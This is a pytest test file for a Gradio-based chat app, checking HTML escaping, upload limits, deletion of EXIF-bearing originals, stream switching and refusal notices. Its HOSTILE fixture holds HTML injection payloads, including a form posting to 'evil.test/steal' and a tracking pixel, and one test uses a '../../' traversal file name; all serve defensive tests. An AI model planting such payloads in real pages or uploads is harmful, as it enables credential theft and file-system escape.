"""Issue 9, the page's half, through the handlers (no browser): owners as cache salt, raw HTML shown as
text, the text cap, image checks before decoding, uploaded originals deleted, view switches, quiet
deletes, busy and refused messages storing nothing, real image types, notices, not-ready gating."""

from __future__ import annotations

import io
import logging
import random
import re
import threading
import time
from pathlib import Path

import gradio as gr
import pytest
from PIL import Image

from chat import page, ui, uploads
from chat.config import Settings
from chat.engine.handle import Handle
from chat.engine.types import Delta, Done, Failed, LoadStatus, Usage
from chat.notices import Notice
from chat.store import Store
from tests.test_ui import OWNER, Req, png, real_ctx, send, text_of

HOSTILE = ('<form action="http://evil.test/steal"><input name="p"></form> <style>body{display:none}</style> '
           '<img src="http://evil.test/pixel.png"> <div style="position:fixed;inset:0;background:red">overlay</div> '
           '![chart](http://other.host/a.png) and `<b>code</b>`\n\n```html\n<form>typed</form>\n```')
TAGS = re.compile(r"<(form|style|img|input|div style|script)\b", re.I)


class FakeEngine:
    """An engine that records requests and plays a script of events once the answer row exists."""

    def __init__(self, store: Store | None = None, script=(), ready: bool = True) -> None:
        self.ready = threading.Event()
        if ready:
            self.ready.set()
        self.store, self.script, self.requests = store, list(script), []

    def submit(self, request, on_finish=None) -> Handle:
        self.requests.append(request)
        handle = Handle(request, on_finish)

        def play() -> None:
            handle._claim()
            deadline = time.monotonic() + 5
            while self.store is not None and time.monotonic() < deadline and not self.store.db.execute(
                    "SELECT count(*) FROM messages WHERE status = 'pending'").fetchone()[0]:
                time.sleep(0.01)
            for event in self.script:
                if isinstance(event, Delta):
                    handle._emit(event)
                    time.sleep(0.01)
                else:
                    handle._finish(event)

        threading.Thread(target=play, daemon=True).start()
        return handle


@pytest.fixture
def ctx(tmp_path, loaded):
    yield from real_ctx(tmp_path, loaded)


@pytest.fixture
def fake(tmp_path):
    store = Store(tmp_path / "fake-data")
    c = ui.Ctx(store=store, engine=FakeEngine(store), settings=Settings(data_dir=tmp_path / "fake-data"))
    yield c
    store.close()


def done(text: str) -> Done:
    return Done("stop", text, Usage(5, 0, 3, 0))


def test_the_owner_is_the_cache_salt(fake):
    """Item 1: every page request carries its owner as cache_salt."""
    fake.engine.script = [done("ok")]
    send(fake, None, "hello")
    send(fake, None, "hello", req=Req(username="ann"))
    assert [r.cache_salt for r in fake.engine.requests] == [OWNER, "user:ann"]


def test_raw_html_in_messages_is_shown_as_text_streamed_and_stored(fake):
    """Item 3: the user's text and the answer, while streaming and once stored, show HTML as text."""
    fake.engine.script = [Delta(HOSTILE[:60]), Delta(HOSTILE[60:]), done(HOSTILE)]
    updates = send(fake, None, HOSTILE)
    streamed = [text_of(m) for u in updates if isinstance(u[1], list) for m in u[1] if m["content"]]
    stored = [text_of(m) for m in ui.open_conversation(fake, updates[0][0], Req())[1]]
    assert len(streamed) > 3 and len(stored) == 2
    for markup in streamed + stored:
        assert not TAGS.search(markup), markup
    for markup in stored:
        assert "&lt;form action=" in markup and "&lt;style&gt;body{display:none}&lt;/style&gt;" in markup
        assert "&lt;img src=" in markup and "position:fixed" in markup  # shown, as text
        assert '<a href="http://other.host/a.png"' in markup and "image: chart" in markup  # a link, not fetched
        assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in markup  # code reads as typed
        assert "&lt;form&gt;typed&lt;/form&gt;" in markup


def test_a_message_over_the_text_limit_is_refused_and_nothing_is_stored(fake):
    """Item 2: a clear notice with the length and the limit, not a silent cut; nothing stored or sent."""
    fake.settings = Settings(data_dir=fake.settings.data_dir, max_message_chars=50)
    with pytest.raises(Notice, match="51 characters; the limit is 50"):
        send(fake, None, "x" * 51)
    with pytest.raises(Notice, match="system prompt override is 60 characters; the limit is 50"):
        send(fake, None, "short", system="s" * 60)
    assert fake.store.list_conversations(OWNER) == [] and fake.engine.requests == []
    fake.engine.script = [done("ok")]
    send(fake, None, "x" * 50)  # at the limit is fine
    assert len(fake.store.list_conversations(OWNER)) == 1


def test_every_file_is_checked_before_any_is_decoded(fake, tmp_path, monkeypatch):
    """Item 5: count, bytes (stat) and declared pixels of ALL files come before decoding ANY."""
    decoded, headers = [], []
    real_sanitize, real_header = uploads.sanitize, uploads.upright_size
    monkeypatch.setattr(uploads, "sanitize", lambda *a, **k: decoded.append(1) or real_sanitize(*a, **k))
    monkeypatch.setattr(uploads, "upright_size", lambda *a, **k: headers.append(1) or real_header(*a, **k))
    uploads.header_size.cache_clear()
    fake.settings = Settings(data_dir=fake.settings.data_dir, max_image_pixels=1_000_000, max_image_bytes=20_000)
    good = png(tmp_path, "good.png")
    big = png(tmp_path, "big.png", size=(1200, 1000))  # small file, too many pixels
    with pytest.raises(Notice, match="big.png: .*1 megapixels"):
        send(fake, None, "look", [good, big])
    assert decoded == []
    heavy = tmp_path / "heavy.png"
    Image.frombytes("RGB", (200, 200), random.Random(0).randbytes(120_000)).save(heavy)  # noise: > 20 kB
    assert heavy.stat().st_size > 20_000
    headers.clear()
    with pytest.raises(Notice, match="heavy.png: the file is .* MB; the limit is 0.02 MB"):
        send(fake, None, "look", [good, str(heavy)])
    assert headers == [] and decoded == []  # refused on its size on disk: not even a header read
    assert fake.store.db.table("images").count == 0


def test_uploaded_originals_are_deleted_once_stored_and_only_inside_the_upload_folder(fake, tmp_path, monkeypatch):
    """Item 8: the original (EXIF, GPS) goes as soon as the clean copy is stored; nothing outside Gradio's cache."""
    cache = tmp_path / "gradio"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache))
    inside = cache / "0f1e2d" / "photo.jpg"
    inside.parent.mkdir(parents=True)
    exif = Image.Exif()
    exif[0x8825] = {2: (52.0, 31.0, 0.0)}  # GPS latitude
    Image.new("RGB", (64, 48), (200, 10, 10)).save(inside, "JPEG", exif=exif)
    outside = Path(png(tmp_path, "mine.png"))
    elsewhere = Path(png(tmp_path, "target.png", colour=(1, 1, 1)))
    link = cache / "abcd" / "link.png"
    link.parent.mkdir()
    link.symlink_to(elsewhere)
    fake.engine.script = [done("ok")]
    conv = send(fake, None, "three", [str(inside), str(outside), str(link)])[0][0]
    assert len(fake.store.messages(OWNER, conv)[0]["image_ids"]) == 3
    assert not inside.exists() and not inside.parent.exists() and cache.is_dir()
    assert outside.exists() and elsewhere.exists() and link.is_symlink()


def test_switching_view_ends_the_stream_keeps_the_answer_and_routes_the_next_message(ctx):
    """Item 10: the old stream stops drawing at once, its answer is saved where it belongs, the next one too."""
    older = send(ctx, None, "older chat")[0][0]
    req = Req(session="tab-v")
    for switch in (lambda: ui.open_conversation(ctx, older, req), lambda: ui.new_chat(ctx, req)):
        gen = ui.send(ctx, None, {"text": "a long one", "files": []}, "general", 0.0, 0.9, 2500, "", "auto", req)
        streaming = next(gen)[0]
        next(gen)
        switch()
        started = time.monotonic()
        # The send event ends at once (so Enter works again), its last update changing nothing on the page.
        assert list(gen) == [(gr.skip(),) * 6]
        assert time.monotonic() - started < 1.0
        target = older if ctx.views[req.session_hash] == 1 else None
        follow = send(ctx, target, "next question", req=req)[0][0]
        assert follow != streaming and (target is None or follow == older)
        deadline = time.monotonic() + 60  # the answer goes on in the background (alongside the next one)
        while ctx.store.messages(OWNER, streaming)[-1]["status"] == "pending" and time.monotonic() < deadline:
            time.sleep(0.05)
        rows = ctx.store.messages(OWNER, streaming)
        assert [r["text"] for r in rows if r["role"] == "user"] == ["a long one"]
        assert rows[-1]["status"] == "complete" and rows[-1]["usage"]["completion_tokens"] == 2500
        assert ctx.store.messages(OWNER, follow)[-2]["text"] == "next question"


def test_deleting_a_conversation_while_it_is_answered_logs_no_error(ctx, caplog):
    """Item 11: the worker's final write to a vanished message is quiet."""
    caplog.set_level(logging.INFO)
    for deleter in (lambda conv: ctx.store.delete_conversation(OWNER, conv),  # e.g. the API or another process
                    lambda conv: ui.delete(ctx, conv, Req(session="another-tab"))):
        gen = ui.send(ctx, None, {"text": "go on", "files": []}, "general", 0.0, 0.9, 3000, "", "auto",
                      Req(session="tab-del"))
        conv = next(gen)[0]
        next(gen)
        deleter(conv)
        list(gen)
        assert ctx.running == {}
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []


def test_a_question_refused_after_it_was_stored_is_taken_back_with_its_images(fake, tmp_path, monkeypatch):
    """Item 11: a late context refusal deletes the question and its now-unused images; the box gets it back."""
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "gradio"))
    fake.engine.script = [Failed("Too long for the context.", "context_length_exceeded")]
    out = list(page.bind(ui.send, fake, 6)(None, {"text": "see this", "files": [png(tmp_path)]}, "general", 0.0,
                                           0.9, 16, "", "auto", Req()))
    assert out[-1][6]["visible"] is True and "Too long for the context." in out[-1][7]
    back = out[-2][2]
    assert back["text"] == "see this" and len(back["files"]) == 1
    assert Path(back["files"][0]).is_relative_to(tmp_path / "gradio") and Image.open(back["files"][0]).size == (120, 80)
    conv = out[0][0]
    assert fake.store.messages(OWNER, conv) == [] and fake.store.db.table("images").count == 0


def test_stored_jpegs_are_shown_as_jpeg(ctx, tmp_path):
    """Item 11: the Chatbot gets each image's stored type, not image/png for all."""
    path = tmp_path / "photo.jpg"
    Image.new("RGB", (90, 60), (10, 120, 200)).save(path, "JPEG")
    conv = send(ctx, None, "a jpeg", [str(path), png(tmp_path)])[0][0]
    parts = ui.open_conversation(ctx, conv, Req())[1][0]["content"]
    assert [(p["file"]["mime_type"], Path(p["file"]["path"]).suffix) for p in parts[:2]] == [
        ("image/jpeg", ".jpg"), ("image/png", ".png")]


def test_a_refusal_is_a_notice_and_changes_nothing_else(fake):
    """Item 13: no red overlay (gr.Error); a dismissable alert in the chat area, other outputs skipped."""
    out = list(page.bind(ui.send, fake, 6)(None, {"text": "  ", "files": []}, "general", 0.0, 0.9, 16, "", "auto",
                                           Req()))
    assert len(out) == 1 and len(out[0]) == 8
    assert all(o == gr.skip() for o in out[0][:6])
    assert out[0][6]["visible"] is True
    assert 'role="alert"' in out[0][7] and "Type a question or attach an image." in out[0][7]
    renamed = page.bind(ui.rename, fake, 2)(None, "x", Req())  # a plain handler, the same way
    assert renamed[:2] == (gr.skip(), gr.skip()) and "Open or start a conversation first." in renamed[3]
    fake.engine.script = [done("fine")]
    ok = list(page.bind(ui.send, fake, 6)(None, {"text": "hello", "files": []}, "general", 0.0, 0.9, 16, "",
                                          "auto", Req()))
    assert ok[0][6]["visible"] is False  # a message that goes through clears the notice


def test_before_the_model_is_ready_nothing_is_sent_and_the_box_says_why(tmp_path):
    """Item 13: the box is off with the loading line until ready; a message sent early is not stored."""
    store = Store(tmp_path / "data")
    status = LoadStatus()
    status.set("loading", 0.43)
    engine = FakeEngine(store, ready=False)
    c = ui.Ctx(store=store, engine=engine, settings=Settings(data_dir=tmp_path / "data"), status=status)
    _, box, line, timer = ui.on_load(c, Req())
    assert box["interactive"] is False and "Loading the model, 43%" in box["placeholder"]
    assert "43%" in line and timer.active is True
    with pytest.raises(Notice, match="Loading the model, 43%.*nothing was sent"):
        send(c, None, "too early")
    assert store.list_conversations(OWNER) == [] and engine.requests == []
    demo = page.build(c)
    assert [b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "input"][0].interactive is False
    status.set("ready", 1.0)
    engine.ready.set()
    box, line, timer = ui.loading_tick(c)
    assert box["interactive"] is True and line == "" and timer.active is False
    store.close()


def test_pasted_jpeg_given_back_is_readable(tmp_path, monkeypatch):
    """give_back writes clean copies inside the upload folder under the person's file name."""
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "g"))
    buf = io.BytesIO()
    Image.new("RGB", (40, 30)).save(buf, "JPEG")
    from chat.images import sanitize

    [path] = uploads.give_back([sanitize(buf.getvalue())], ["../../evil name.jpg"])
    assert Path(path).parent.parent == (tmp_path / "g").resolve() and Path(path).name == "evil name.jpg"


def test_a_page_without_identity_still_loads_and_is_told_to_reload(fake):
    """No cookie identity: the page loads (box enabled once ready), and a message is refused with advice."""
    conv_list, box, _, _ = ui.on_load(fake, Req(browser=None))
    assert conv_list["choices"] == [] and box["interactive"] is True
    with pytest.raises(Notice, match="reload the page"):
        send(fake, None, "hello", req=Req(browser=None))


def test_regenerate_refused_when_busy_keeps_the_old_answer(ctx):
    """Item 11: a busy engine refuses Regenerate before anything is deleted or stored."""
    conv = send(ctx, None, "question")[0][0]
    before = ctx.store.messages(OWNER, conv)
    ctx.engine.max_waiting = 0
    with pytest.raises(Notice, match="busy"):
        list(ui.regenerate(ctx, conv, "general", 0.0, 0.9, 16, "", Req()))
    assert ctx.store.messages(OWNER, conv) == before
